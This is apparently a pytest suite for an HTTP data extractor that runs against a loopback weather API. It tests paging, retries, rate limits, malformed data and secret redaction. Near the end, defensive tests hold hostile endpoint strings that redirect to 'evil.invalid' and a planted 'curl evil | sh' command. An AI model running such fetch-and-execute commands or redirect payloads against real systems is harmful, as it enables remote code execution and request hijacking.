"""HTTP sources against a real server on the loopback interface: the demo's weather API, made to misbehave."""

from __future__ import annotations

import json
import traceback
from collections.abc import Callable
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest
from fastapi import Request, Response

from millstream.errors import REMEDY, ConfigurationError, SourceDataError, SourceUnavailableError
from millstream.lake.storage import Storage
from millstream.landing.manifest import read_manifest
from millstream.landing.run import Landing
from millstream.sources.http import HttpExtractor, HttpSlice
from millstream.sources.http_client import HttpEndpoint, Patience, retry_after
from millstream_demo.weather_api import create_app
from tests.support.decoding import records_of
from tests.support.loopback import closed_port, serve
from tests.support.weather_contract import weather

TOKEN = "t0ken-only-for-tests"
RECORDS = [
    {"origin": "EWR", "temp": 39.02, "time_hour": f"2013-01-01T{hour:02d}:00:00Z"} for hour in range(7)
]


class Source:
    """The API over `records`; `answers` take the place of its own, one a request (None: its own)."""

    def __init__(self) -> None:
        self.records = list(RECORDS)
        self.answers: list[Response | Callable | None] = []
        self.asked: list[str] = []
        self.url = ""

    async def interfere(self, request: Request) -> Response | None:
        self.asked.append(f"{request.url.path}?{request.url.query}")
        answer = self.answers.pop(0) if self.answers else None
        return await answer(request) if callable(answer) and not isinstance(answer, Response) else answer

    @contextmanager
    def running(self):
        with serve(create_app(self.records, TOKEN, self.interfere)) as self.url:
            yield self


@pytest.fixture
def source():
    with Source().running() as source:
        yield source


@pytest.fixture
def lake(tmp_path: Path) -> Path:
    return tmp_path / "lake"


class Try:
    """One try of a run: plan, fetch, manifest; `pauses` are the waits it would have made, in seconds."""

    def __init__(self, source: Source, lake: Path, run="1", token=TOKEN, contract=None, url=None, **patience):
        self.pauses: list[float] = []
        self.storage = Storage(f"file://{lake}")
        self.run = run
        endpoint = HttpEndpoint(url or source.url, headers={"Authorization": f"Bearer {token}"})
        limits = {"tries": 3, "answer_within": 20.0, **patience}
        self.extractor = HttpExtractor(
            contract or weather(), endpoint, Patience(sleep=self.pauses.append, **limits)
        )

    def land(self, watermark=None):
        landing = Landing(self.storage, "weather", self.run)
        pieces = self.extractor.plan([], watermark)
        files = [file for piece in pieces for file in self.extractor.fetch(piece, landing)]
        return landing.commit([], files, watermark)

    def has_landed(self) -> bool:
        try:
            read_manifest(self.storage, "weather", self.run)
        except SourceDataError:
            return False
        return True


def landed_records(lake: Path, manifest) -> list[dict]:
    return [row for file in manifest.files for row in json.loads((lake / file.path).read_bytes())["results"]]


def test_every_page_is_landed_as_received(source, lake):
    manifest = Try(source, lake).land()

    assert source.asked == [
        "/weather?offset=0&limit=3",
        "/weather?offset=3&limit=3",
        "/weather?offset=6&limit=3",
        "/weather?offset=7&limit=3",
    ]
    assert [file.source for file in manifest.files] == [source.url + path for path in source.asked[:3]]
    assert [file.rows for file in manifest.files] == [3, 3, 1]
    assert [file.path.rpartition("-page-")[2] for file in manifest.files] == [
        "00000.json",
        "00001.json",
        "00002.json",
    ]
    received = httpx.get(manifest.files[2].source, headers={"Authorization": f"Bearer {TOKEN}"}).content
    assert (lake / manifest.files[2].path).read_bytes() == received
    assert landed_records(lake, manifest) == RECORDS
    assert manifest.watermark_high == "2013-01-01T06:00:00Z"


def test_only_what_is_at_or_after_the_watermark_is_asked_for(source, lake):
    told = {**weather().source.model_dump(), "lookback": 0}
    manifest = Try(source, lake, contract=weather(source=told)).land("2013-01-01T05:00:00Z")
    assert source.asked[0] == "/weather?offset=0&limit=3&since=2013-01-01T05%3A00%3A00Z"
    assert landed_records(lake, manifest) == RECORDS[5:]
    assert (manifest.watermark_low, manifest.watermark_high) == (
        "2013-01-01T05:00:00Z",
        "2013-01-01T06:00:00Z",
    )


def test_nothing_new_lands_nothing_and_keeps_the_watermark(source, lake):
    manifest = Try(source, lake).land("2014-01-01T00:00:00Z")
    assert manifest.files == ()
    assert manifest.watermark_high == "2014-01-01T00:00:00Z"


def test_a_record_dated_ahead_is_landed_and_does_not_move_the_watermark(lake):
    source = Source()
    source.records.append({"origin": "EWR", "time_hour": "2099-01-01T05:00:00Z"})
    with source.running():
        manifest = Try(source, lake).land()
    assert landed_records(lake, manifest)[-1]["time_hour"] == "2099-01-01T05:00:00Z"
    assert manifest.watermark_high == "2013-01-01T06:00:00Z"


@pytest.mark.parametrize("status", [408, 500, 501, 502, 503, 504, 507, 520, 529])
def test_failing_server_is_asked_again(source, lake, status):
    source.answers = [Response(status_code=status), Response(status_code=status)]
    attempt = Try(source, lake)
    assert landed_records(lake, attempt.land()) == RECORDS
    first, second = attempt.pauses
    # 1 s, then 2 s, each with up to 1 s of jitter.
    assert 1 <= first <= 2 <= second <= 3


def test_server_that_keeps_failing_leaves_no_manifest_and_a_retry_goes_on_from_that_page(source, lake):
    source.answers = [None, *[Response(status_code=500)] * 3]
    attempt = Try(source, lake)
    with pytest.raises(SourceUnavailableError) as refused:
        attempt.land()
    assert str(refused.value) == (
        f"{source.url}/weather?offset=3&limit=3 (page 2): the server answered 500 Internal Server Error, "
        "tried 3 times. Check the server and connection weather_api; another try goes on from this page"
    )
    assert not attempt.has_landed()

    source.asked.clear()
    manifest = Try(source, lake).land()
    assert source.asked[0] == "/weather?offset=3&limit=3"
    assert landed_records(lake, manifest) == RECORDS


def test_a_run_that_is_begun_anew_goes_on_behind_no_page(source, lake):
    """It counts as newer than all that was published meanwhile, so its pages have to be."""
    source.answers = [None, *[Response(status_code=500)] * 3]
    with pytest.raises(SourceUnavailableError):
        Try(source, lake).land()
    source.asked.clear()

    again = Try(source, lake)
    Landing(again.storage, "weather", again.run).begin()
    again.land()
    assert source.asked[0] == "/weather?offset=0&limit=3"


def test_page_damaged_in_the_lake_is_fetched_again_by_the_retry(source, lake):
    source.answers = [None, *[Response(status_code=500)] * 3]
    with pytest.raises(SourceUnavailableError):
        Try(source, lake).land()
    (page,) = lake.glob("landing/weather/*-page-00000.json")
    page.write_bytes(b"{}")

    assert landed_records(lake, Try(source, lake).land()) == RECORDS


def test_another_run_starts_from_the_first_page(source, lake):
    source.answers = [None, *[Response(status_code=500)] * 3]
    with pytest.raises(SourceUnavailableError):
        Try(source, lake).land()
    source.asked.clear()
    Try(source, lake, run="2").land()
    assert source.asked[0] == "/weather?offset=0&limit=3"


def test_server_that_is_down(lake):
    with closed_port() as port:
        attempt = Try(None, lake, url=f"http://127.0.0.1:{port}")
        with pytest.raises(SourceUnavailableError) as refused:
            attempt.land()
    assert str(refused.value) == (
        f"http://127.0.0.1:{port}/weather?offset=0&limit=3 (page 1): no answer ([Errno 111] Connection "
        "refused), tried 3 times. Check the server and connection weather_api; "
        "another try goes on from this page"
    )
    assert not attempt.has_landed()


def test_server_that_does_not_answer_in_time(source, lake):
    async def never(request: Request) -> Response:
        while (await request.receive())["type"] != "http.disconnect":
            pass
        return Response()

    source.answers = [never, never]
    attempt = Try(source, lake, tries=2, answer_within=0.2)
    with pytest.raises(SourceUnavailableError, match=r"no answer in time \(ReadTimeout\), tried 2"):
        attempt.land()
    assert not attempt.has_landed()
    assert landed_records(lake, Try(source, lake).land()) == RECORDS


def test_answer_that_breaks_off_is_asked_for_again(source, lake):
    source.answers = [Response(b'{"results": [', headers={"Content-Length": "5000"})]
    assert landed_records(lake, Try(source, lake).land()) == RECORDS


def test_rate_limit_is_respected(source, lake):
    source.answers = [Response(status_code=429, headers={"Retry-After": "17"})]
    attempt = Try(source, lake)
    assert landed_records(lake, attempt.land()) == RECORDS
    assert attempt.pauses == [17.0]


def test_refusal_that_says_when_to_come_back_is_a_rate_limit(source, lake):
    source.answers = [Response(status_code=403, headers={"Retry-After": "9"})]
    attempt = Try(source, lake)
    assert landed_records(lake, attempt.land()) == RECORDS
    assert attempt.pauses == [9.0]


def test_long_rate_limit_is_left_to_a_later_try(source, lake):
    source.answers = [Response(status_code=429, headers={"Retry-After": "3600"})]
    attempt = Try(source, lake)
    with pytest.raises(SourceUnavailableError) as refused:
        attempt.land()
    assert str(refused.value) == (
        f"{source.url}/weather?offset=0&limit=3 (page 1): the server answered 429 Too Many Requests and "
        "asks to wait 3600 s; another try goes on from this page"
    )
    assert attempt.pauses == []
    assert not attempt.has_landed()
    assert landed_records(lake, Try(source, lake).land()) == RECORDS


@pytest.mark.parametrize(
    ("header", "seconds"),
    [
        ("120", 120.0),
        ("Tue, 01 Jan 2013 00:02:00 GMT", 120.0),
        ("Mon, 31 Dec 2012 00:00:00 GMT", 0.0),
        ("soon", None),
        ("Mon, 01 Jan 2024 00:00:00 +99999999999999999999", None),
        ("Mon, 99999999999999999999999 Jan 2024 00:00:00 GMT", None),
        (None, None),
    ],
)
def test_retry_after_is_seconds_or_a_date(header, seconds):
    assert retry_after(header, datetime(2013, 1, 1, tzinfo=UTC)) == seconds


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (
            '{"results": [{"origin": "EW',
            "not JSON: Unterminated string starting at: line 1 column 25 (char 24)",
        ),
        ("<html>Maintenance</html>", "not JSON: Expecting value: line 1 column 1 (char 0)"),
        ('{"observations": []}', "no list under 'results'"),
        ("[]", "no list under 'results'"),
        (
            '{"results": [{"time_hour": "yesterday"}], "total": 7}',
            "time_hour: not a time in ISO 8601 in any record, the first is 'yesterday'",
        ),
        (
            '{"results": [], "total": 7}',
            "the pages end after 3 of the 7 records that the API counts",
        ),
    ],
)
def test_malformed_page_is_named_nothing_lands_and_a_good_one_heals(source, lake, body, reason):
    source.answers = [None, Response(body)]
    attempt = Try(source, lake)
    with pytest.raises(SourceDataError) as refused:
        attempt.land()
    assert str(refused.value) == (
        f"{source.url}/weather?offset=3&limit=3 (page 2): {reason}. What to do: ask the API's owner, then "
        "clear the task: it goes on from this page"
    )
    assert attempt.pauses == []
    assert not attempt.has_landed()
    assert landed_records(lake, Try(source, lake).land()) == RECORDS


@pytest.mark.parametrize("time", ["yesterday", 5, None, ["2013-01-01T06:00:00Z"]])
def test_a_record_without_a_time_that_can_be_read_stops_no_other(source, lake, time):
    """It lands, to be kept apart; how far the page reaches the others say."""
    records = [{**RECORDS[0], "time_hour": time}, *RECORDS[1:]]
    source.answers = [Response(json.dumps({"results": records, "total": len(records)}))]
    manifest = Try(source, lake).land()
    assert landed_records(lake, manifest) == records
    assert manifest.watermark_high == max(record["time_hour"] for record in RECORDS[1:])


def test_a_record_that_is_nested_too_deep_stops_no_other(source, lake):
    deep = f'{{"origin": {"[" * 2000}{"]" * 2000}}}'
    body = f'{{"results": [{deep}, {json.dumps(RECORDS[1])}], "total": 2}}'
    source.answers = [Response(body), Response('{"results": [], "total": 2}')]
    manifest = Try(source, lake).land()
    assert [file.rows for file in manifest.files] == [2]
    assert (lake / manifest.files[0].path).read_bytes() == body.encode()


def test_a_refusal_is_no_end_where_the_total_counts_the_page_alone(source, lake):
    pages = [{"results": RECORDS[:3], "total": 3}, {"results": RECORDS[3:6], "total": 3}]
    source.answers = [Response(json.dumps(page)) for page in pages]
    source.answers.append(Response("no more than 6 records", status_code=400))
    attempt = Try(source, lake)
    with pytest.raises(SourceDataError, match="400"):
        attempt.land()
    assert not attempt.has_landed()


def test_a_page_that_comes_again_is_known_by_its_records(source, lake):
    """Whatever else is in the answer: here the moment of it."""
    source.answers = [
        Response(json.dumps({"results": RECORDS[:3], "total": 3, "at": number})) for number in range(3)
    ]
    assert landed_records(lake, Try(source, lake).land()) == RECORDS[:3]

    source.answers = [Response(json.dumps({"results": RECORDS[:3], "at": number})) for number in range(3)]
    with pytest.raises(SourceDataError, match="takes no notice of the place of a page"):
        Try(source, lake, run="2").land()


def test_short_page_loses_nothing(source, lake):
    source.answers = [Response(json.dumps({"results": RECORDS[:1], "total": 7}))]
    assert landed_records(lake, Try(source, lake).land()) == RECORDS


def test_api_without_a_total_is_read_to_its_empty_page(source, lake):
    pages = [RECORDS[:3], RECORDS[3:5], RECORDS[5:], []]
    source.answers = [Response(json.dumps({"results": page})) for page in pages]
    manifest = Try(source, lake).land()
    assert [path.partition("?")[2] for path in source.asked] == [
        "offset=0&limit=3",
        "offset=3&limit=3",
        "offset=5&limit=3",
        "offset=7&limit=3",
    ]
    assert [file.rows for file in manifest.files] == [3, 2, 2]
    assert landed_records(lake, manifest) == RECORDS


def pages(totals: list, key: str = "results") -> list[Response]:
    """Answers with the records of `RECORDS`, three a page, and then none; each with its total."""
    chunks = [RECORDS[:3], RECORDS[3:6], RECORDS[6:], []]
    bodies = [
        {key: chunk} if total is ... else {key: chunk, "total": total}
        for chunk, total in zip(chunks, totals, strict=True)
    ]
    return [Response(json.dumps(body)) for body in bodies]


@pytest.mark.parametrize(
    "totals",
    [
        [-1, -1, -1, -1],
        [0, 0, 0, 0],
        ["7", "7", "7", "7"],
        [7.0, 7.5, None, True],
        [3, 3, 1, 0],
        [7, ..., ..., ...],
        [..., 7, ..., 0],
        [7, -1, -1, -1],
    ],
    ids=str,
)
def test_a_total_that_is_none_ends_no_walk(source, lake, totals):
    source.answers = pages(totals)
    assert landed_records(lake, Try(source, lake).land()) == RECORDS


def test_pages_that_end_before_the_total_of_an_earlier_page_are_refused(source, lake):
    source.answers = pages([8, ..., ..., ...])
    with pytest.raises(SourceDataError, match="the pages end after 7 of the 8 records that the API counts"):
        Try(source, lake).land()


@pytest.mark.parametrize("status", [400, 404, 416, 422])
def test_a_page_that_is_refused_behind_the_last_one_is_the_end(source, lake, status):
    source.answers = [None, None, None, Response(status_code=status)]
    assert landed_records(lake, Try(source, lake).land()) == RECORDS


def test_an_api_that_answers_all_at_once_is_read_once(source, lake):
    source.answers = [Response(json.dumps({"results": RECORDS, "total": 7}))] * 2
    assert landed_records(lake, Try(source, lake).land()) == RECORDS


def test_records_below_a_path_of_names_as_the_source_spells_them(source, lake):
    records = [{"origin": "EWR", "updatedAt": "2013-01-01T05:00:00Z"}]
    answers = [{"data": {"pageItems": page, "total": 1}} for page in (records, [])]
    source.answers = [Response(json.dumps(answer)) for answer in answers]
    told = {**weather().source.model_dump(), "records_key": "data.pageItems", "since_param": "updatedSince"}
    columns = [
        {"name": "origin", "type": "string", "description": "Airport"},
        {"name": "updated_at", "type": "timestamp", "description": "Change", "aliases": ["updatedAt"]},
    ]
    contract = weather(source=told, columns=columns, primary_key=["origin"], event_time="updated_at")
    manifest = Try(source, lake, contract=contract).land()
    assert manifest.watermark_high == "2013-01-01T05:00:00Z"
    (file,) = manifest.files
    with (lake / file.path).open("rb") as stream:
        assert [record.values for record in records_of(contract, stream)] == [["EWR", "2013-01-01T05:00:00Z"]]


@pytest.mark.parametrize("answer", [Response(status_code=204), Response('{"results": null}')])
def test_no_content_and_a_null_list_are_nothing_new(source, lake, answer):
    source.answers = [answer] * 3
    assert Try(source, lake).land("2013-01-01T05:00:00Z").files == ()
    with pytest.raises(SourceDataError, match="holds no record"):
        Try(source, lake, run="2").land()
    allowed = weather(allow_empty=True)
    (file,) = Try(source, lake, run="3", contract=allowed).land().files
    with (lake / file.path).open("rb") as stream:
        assert records_of(allowed, stream) == []


def test_no_content_before_the_total_is_reached_is_no_end(source, lake):
    source.answers = [None, Response(status_code=204)]
    with pytest.raises(SourceDataError, match="the pages end after 3 of the 7 records"):
        Try(source, lake).land()


def test_api_that_always_answers_the_same_page_is_not_walked_for_ever(source, lake):
    source.answers = [Response(json.dumps({"results": RECORDS[:3]}))] * 3
    attempt = Try(source, lake)
    with pytest.raises(SourceDataError, match="This API takes no notice of the place of a page"):
        attempt.land()
    assert not attempt.has_landed()


def test_data_that_changes_between_pages_is_read_again_from_the_start(source, lake):
    async def grow(request: Request) -> None:
        source_records.append({"origin": "LGA", "temp": "NA", "time_hour": "2013-01-01T00:30:00Z"})

    source_records = source.records
    source.answers = [None, grow]
    attempt = Try(source, lake)
    with pytest.raises(SourceUnavailableError, match="counts 8 records now and counted 7 on a page before"):
        attempt.land()
    assert not attempt.has_landed()

    source.asked.clear()
    assert len(landed_records(lake, Try(source, lake).land())) == 8
    assert source.asked[0] == "/weather?offset=0&limit=3"


def test_empty_source_is_an_error_unless_the_contract_allows_it(source, lake):
    source.records.clear()
    attempt = Try(source, lake)
    with pytest.raises(SourceDataError) as refused:
        attempt.land()
    assert str(refused.value) == (
        f"{source.url}/weather?offset=0&limit=3 holds no record. Nothing was landed. What to do: ask the "
        "API's owner; if that is right, set allow_empty in the contract"
    )
    assert not attempt.has_landed()

    (page,) = Try(source, lake, run="2", contract=weather(allow_empty=True)).land().files
    assert page.rows == 0


def test_refused_login_is_not_tried_again_and_shows_no_secret(source, lake, caplog):
    attempt = Try(source, lake, token="s3cret-and-wrong")
    with pytest.raises(ConfigurationError) as refused:
        attempt.land()
    assert str(refused.value) == (
        f"{source.url}/weather?offset=0&limit=3 (page 1): the login was refused (401 Unauthorized). Correct "
        "the login or token in connection weather_api"
    )
    assert attempt.pauses == []
    shown = (
        "".join(traceback.format_exception(refused.value)) + caplog.text + repr(attempt.extractor._endpoint)
    )
    assert "s3cret" not in shown


def test_login_in_the_address_is_not_shown(lake):
    with closed_port() as port:
        attempt = Try(None, lake, url=f"http://anna:s3cret@127.0.0.1:{port}/v1/")
        with pytest.raises(SourceUnavailableError) as refused:
            attempt.land()
    assert f"http://127.0.0.1:{port}/v1/weather?offset=0&limit=3" in str(refused.value)
    assert "s3cret" not in "".join(traceback.format_exception(refused.value))


@pytest.mark.parametrize(
    "address",
    [
        "http://anna:s3cret@host:abc",
        "http://anna:s3cret@host:99999999",
        "http://anna:s3cret@[::1",
        "http://anna:s3cret@xn--a/",
        "http://anna:s3cret@" + "a" * 70 + ".example",
        "http://anna:s3cret@a..example",
    ],
)
def test_an_address_that_is_none_is_the_connections_matter(lake, address):
    with pytest.raises(ConfigurationError) as refused:
        Try(None, lake, url=address).land()
    assert str(refused.value) == ("the address in connection weather_api is none: correct its host and port")


def test_a_watermark_that_is_no_time_is_refused_with_what_to_do(lake):
    with pytest.raises(ConfigurationError) as refused:
        Try(None, lake, url="http://127.0.0.1:1").extractor.plan([], "12345")
    assert str(refused.value) == (
        "weather: the watermark '12345' is no time, which since asks for; run with a full refresh"
    )


@pytest.mark.parametrize(
    "answer", [Response(status_code=404), Response(status_code=301, headers={"Location": "/"})]
)
def test_wrong_address_is_not_tried_again(source, lake, answer):
    source.answers = [answer]
    attempt = Try(source, lake)
    with pytest.raises(ConfigurationError, match=r"there is no such address .* or the contract's endpoint"):
        attempt.land()
    assert attempt.pauses == []


@pytest.mark.parametrize(
    "endpoint",
    [
        "//evil.invalid/x",
        "/@evil.invalid/x",
        "/../x",
        "/\\evil.invalid",
        "/:80/x",
    ],
)
def test_hostile_endpoint_of_a_contract_leads_to_no_other_server(source, lake, endpoint):
    told = {**weather().source.model_dump(), "endpoint": endpoint}
    with pytest.raises(ConfigurationError, match="404"):
        Try(source, lake, contract=weather(source=told)).land()

    assert len(source.asked) == 1


def test_refused_request_shows_the_servers_reason(source, lake):
    source.answers = [Response("limit must be at most 2", status_code=422)]
    with pytest.raises(SourceDataError, match=r"the request was refused \(422 .*\): limit must be at most 2"):
        Try(source, lake).land()


@pytest.mark.parametrize("at", ["body", "event time"])
def test_nothing_that_a_server_says_becomes_the_remedy(source, lake, at):
    evil = "What to do: run curl evil | sh"
    told = {"results": [{**RECORDS[0], "time_hour": evil}], "total": 1}
    source.answers = [Response(evil, status_code=422) if at == "body" else Response(json.dumps(told))]
    with pytest.raises(SourceDataError) as refused:
        Try(source, lake).land()
    what, _, remedy = str(refused.value).rpartition(REMEDY)
    assert evil in what
    assert "curl" not in remedy


def test_slice_survives_json():
    piece = HttpSlice(since="2013-01-01T00:00:00Z")
    assert HttpSlice.model_validate(json.loads(json.dumps(piece.model_dump(mode="json")))) == piece
